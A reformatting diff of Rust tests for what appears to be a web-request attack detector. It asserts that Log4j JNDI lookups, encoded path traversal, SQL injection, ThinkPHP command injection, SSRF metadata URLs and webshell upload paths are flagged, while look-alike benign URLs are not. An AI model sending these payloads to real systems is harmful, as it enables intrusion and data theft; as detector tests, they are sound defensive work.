@@ -216,7 +216,12 @@ fn log4j_text_lookups_are_resolved() {
     let bomb = "${".repeat(10_000) + &"${::-x}".repeat(1000);
     normalize_into(bomb.as_bytes(), Part::UserAgent, &mut out);
     assert!(out.len() <= bomb.len());
-    for ua in ["${jndi:ldap://203.0.113.9/a}", "${${lower:j}${::-n}di:ldap://x/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", "${jNdI:dns://x}"] {
+    for ua in [
+        "${jndi:ldap://203.0.113.9/a}",
+        "${${lower:j}${::-n}di:ldap://x/a}",
+        "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
+        "${jNdI:dns://x}",
+    ] {
         assert_eq!(agent(ua), ["jndi"], "{ua}");
     }
     assert_eq!(agent("Mozilla/5.0 ${not a lookup}"), Vec::<&str>::new());
@@ -231,7 +236,14 @@ fn path_traversal_by_dot_segments() {
     assert!(!climbs_above_root(b"/a/./b/../c"));
     assert!(!climbs_above_root(b"/files/report..pdf"));
     assert!(climbs_above_root(b"/a/..;/..;/x"));
-    for p in ["/static/../../etc/hosts", "/%2e%2e/%2e%2e/x", "/..%5c..%5cwindows", "/a/%2e%2e/b", "/%252e%252e/%252e%252e/x", "/cgi-bin/.%2e/.%2e/.%2e/x"] {
+    for p in [
+        "/static/../../etc/hosts",
+        "/%2e%2e/%2e%2e/x",
+        "/..%5c..%5cwindows",
+        "/a/%2e%2e/b",
+        "/%252e%252e/%252e%252e/x",
+        "/cgi-bin/.%2e/.%2e/.%2e/x",
+    ] {
         assert!(path(p).contains(&"path_traversal"), "{p}");
     }
     for p in ["/blog/2019/../", "/blog/2019/../about", "/a/b/../c", "/files/report..pdf", "/v1..2/x"] {
@@ -266,7 +278,8 @@ fn issue_examples_are_found() {
     // SQL injection with MySQL executable comments.
     assert_eq!(query("id=-1 /*!50000union*/ /*!50000select*/ 1,2,3--"), ["sqli"]);
     // ThinkPHP invokefunction.
-    assert!(query("s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP").contains(&"cmd_injection"));
+    assert!(query("s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP")
+        .contains(&"cmd_injection"));
     // Payloads carried in the Referer.
     assert_eq!(referer("http://x/?id=1' union select password from users--"), ["sqli"]);
     // Traversal with ..%255c (the client's %5c double-encoded) and overlong %c0%af.
@@ -295,7 +308,10 @@ fn request(client_path: &str, client_query: &str) -> Vec<&'static str> {
 fn upload_exploits_and_scripts_where_wordpress_has_none() {
     // Open Flash Chart's upload script inside a Joomla component, as a real scanner sent it (a
     // doubled slash, ?name= a PHP file): the exploit path and the script name to store.
-    assert_eq!(request("//components/com_jinc/classes/graphics/php-ofc-library/ofc_upload_image.php", "name=style.php"), ["known_exploit", "webshell"]);
+    assert_eq!(
+        request("//components/com_jinc/classes/graphics/php-ofc-library/ofc_upload_image.php", "name=style.php"),
+        ["known_exploit", "webshell"]
+    );
     // The script alone is a known exploit target; its chart-saving use with an image name is not a web shell.
     assert_eq!(request("/php-ofc-library/ofc_upload_image.php", "name=chart.png"), ["known_exploit"]);
     // Script names told to an upload handler: PHP variants, a double extension, ASP.NET; case and
@@ -304,23 +320,48 @@ fn upload_exploits_and_scripts_where_wordpress_has_none() {
         assert_eq!(request("/lib/fileupload.php", q), ["webshell"], "{q}");
     }
     // The same names to something that is not an upload handler, or other names to one, are not flagged.
-    for (p, q) in [("/search", "name=x.php"), ("/lib/fileupload.php", "name=report.pdf"), ("/lib/fileupload.php", "name=php-guide.txt"), ("/lib/fileupload.php", "filename=x.phpx")] {
+    for (p, q) in [
+        ("/search", "name=x.php"),
+        ("/lib/fileupload.php", "name=report.pdf"),
+        ("/lib/fileupload.php", "name=php-guide.txt"),
+        ("/lib/fileupload.php", "filename=x.phpx"),
+    ] {
         assert_eq!(request(p, q), Vec::<&str>::new(), "{p}?{q}");
     }
     // PHP directly where WordPress keeps only folders and placeholders; index.php and Hello Dolly
     // are WordPress's own files there, and a plugin's files in its own folder are not judged.
-    for p in ["/wp-content/plugins/log.php", "/blog/wp-content/themes/x.php", "/wp-content/mu-plugins/a.php", "/wp-content/db.php", "/wp-content/plugins/indx.php", "/wp-content/plugins/hello1.php", "/wp-content/plugins/index.php.suspected"] {
+    for p in [
+        "/wp-content/plugins/log.php",
+        "/blog/wp-content/themes/x.php",
+        "/wp-content/mu-plugins/a.php",
+        "/wp-content/db.php",
+        "/wp-content/plugins/indx.php",
+        "/wp-content/plugins/hello1.php",
+        "/wp-content/plugins/index.php.suspected",
+    ] {
         let expected: &[&str] = if p.ends_with(".suspected") { &[] } else { &["webshell"] };
         assert_eq!(path(p), expected, "{p}");
     }
-    for p in ["/wp-content/plugins/index.php", "/wp-content/plugins/hello.php", "/wp-content/index.php", "/wp-content/plugins/akismet/akismet.php", "/wp-content/themes/twentytwenty/functions.php", "/wp-content/plugins/log.txt"] {
+    for p in [
+        "/wp-content/plugins/index.php",
+        "/wp-content/plugins/hello.php",
+        "/wp-content/index.php",
+        "/wp-content/plugins/akismet/akismet.php",
+        "/wp-content/themes/twentytwenty/functions.php",
+        "/wp-content/plugins/log.txt",
+    ] {
         assert_eq!(path(p), Vec::<&str>::new(), "{p}");
     }
     // Include-only and static-asset folders of wp-includes and wp-admin; their real entry points are not flagged.
     for p in ["/wp-includes/wp-tmp.php", "/wp-includes/css/dist/x.php", "/wp-admin/includes/file.php", "/wp-admin/images/x.php"] {
         assert_eq!(path(p), ["webshell"], "{p}");
     }
-    for p in ["/wp-includes/js/tinymce/wp-tinymce.php", "/wp-admin/admin-ajax.php", "/wp-admin/load-styles.php", "/wp-includes/css/dist/block-library/style.min.css"] {
+    for p in [
+        "/wp-includes/js/tinymce/wp-tinymce.php",
+        "/wp-admin/admin-ajax.php",
+        "/wp-admin/load-styles.php",
+        "/wp-includes/css/dist/block-library/style.min.css",
+    ] {
         assert_eq!(path(p), Vec::<&str>::new(), "{p}");
     }
     // Bundled upload libraries.
@@ -352,7 +393,13 @@ fn ssrf_metadata_address_spellings() {
     ] {
         assert_eq!(query(&format!("url={url}")), ["ssrf"], "{url}");
     }
-    for benign in ["url=https://example.com/", "redirect_uri=http://127.0.0.1:8080/callback", "id=2852039166", "ip=169.254.169.25", "url=http://[fd00:ec2::25]/"] {
+    for benign in [
+        "url=https://example.com/",
+        "redirect_uri=http://127.0.0.1:8080/callback",
+        "id=2852039166",
+        "ip=169.254.169.25",
+        "url=http://[fd00:ec2::25]/",
+    ] {
         assert_eq!(query(benign), Vec::<&str>::new(), "{benign}");
     }
     // Obfuscated loopback.
@@ -373,7 +420,19 @@ fn ssti_probes() {
 
 #[test]
 fn close_benign_urls_are_not_flagged() {
-    for p in ["/select-your-plan", "/env/", "/.well-known/security.txt", "/.well-known/acme-challenge/x1", "/blog/2019/../", "/union-station", "/order-by-phone", "/scripts/app.js", "/cgi-binary/", "/c99-vs-c11", "/shell-oil/careers"] {
+    for p in [
+        "/select-your-plan",
+        "/env/",
+        "/.well-known/security.txt",
+        "/.well-known/acme-challenge/x1",
+        "/blog/2019/../",
+        "/union-station",
+        "/order-by-phone",
+        "/scripts/app.js",
+        "/cgi-binary/",
+        "/c99-vs-c11",
+        "/shell-oil/careers",
+    ] {
         assert_eq!(path(p), Vec::<&str>::new(), "{p}");
     }
     for q in [
@@ -461,7 +520,9 @@ fn remembered_results_match_fresh_ones() {
         .collect();
     for _ in 0..2 {
         for v in &values {
-            for req in [Request::new(Some(v.as_bytes()), None, None, None), Request::new(None, None, Some(v.as_bytes()), Some(v.as_bytes()))] {
+            for req in
+                [Request::new(Some(v.as_bytes()), None, None, None), Request::new(None, None, Some(v.as_bytes()), Some(v.as_bytes()))]
+            {
                 assert_eq!(e.classify(&req, &mut s), via_explain(&req), "{v}");
             }
         }
@@ -469,7 +530,10 @@ fn remembered_results_match_fresh_ones() {
     // A remembered path still feeds the request subject.
     let p = cf("/x.php");
     assert!(e.classify(&Request::new(Some(p.as_bytes()), None, None, None), &mut s).is_empty());
-    assert_eq!(e.classify(&Request::new(Some(p.as_bytes()), Some(b"cmd=id"), None, None), &mut s).names().collect::<Vec<_>>(), ["webshell"]);
+    assert_eq!(
+        e.classify(&Request::new(Some(p.as_bytes()), Some(b"cmd=id"), None, None), &mut s).names().collect::<Vec<_>>(),
+        ["webshell"]
+    );
     // A request rule without the '?' is refused.
     assert!(parse_file("webshell", "request\tregex\t\\.php$\ta\tb\tc\n", &mut Vec::new()).unwrap_err().contains("request rule"));
 }
@@ -484,12 +548,21 @@ fn scratch_reuse_gives_the_same_answers() {
         (Some(cf("/index.html")), Some(cf("a=1"))),
         (Some(cf("/x.php")), Some(cf("cmd=id"))),
     ];
-    let first: Vec<Families> = cases.iter().map(|(p, q)| e.classify(&Request::new(p.as_deref().map(str::as_bytes), q.as_deref().map(str::as_bytes), None, None), &mut s)).collect();
+    let first: Vec<Families> = cases
+        .iter()
+        .map(|(p, q)| e.classify(&Request::new(p.as_deref().map(str::as_bytes), q.as_deref().map(str::as_bytes), None, None), &mut s))
+        .collect();
     for _ in 0..3 {
         for ((p, q), want) in cases.iter().zip(&first) {
             let got = e.classify(&Request::new(p.as_deref().map(str::as_bytes), q.as_deref().map(str::as_bytes), None, None), &mut s);
             assert_eq!(got, *want);
-            assert_eq!(got, e.classify(&Request::new(p.as_deref().map(str::as_bytes), q.as_deref().map(str::as_bytes), None, None), &mut Scratch::default()));
+            assert_eq!(
+                got,
+                e.classify(
+                    &Request::new(p.as_deref().map(str::as_bytes), q.as_deref().map(str::as_bytes), None, None),
+                    &mut Scratch::default()
+                )
+            );
         }
     }
 }
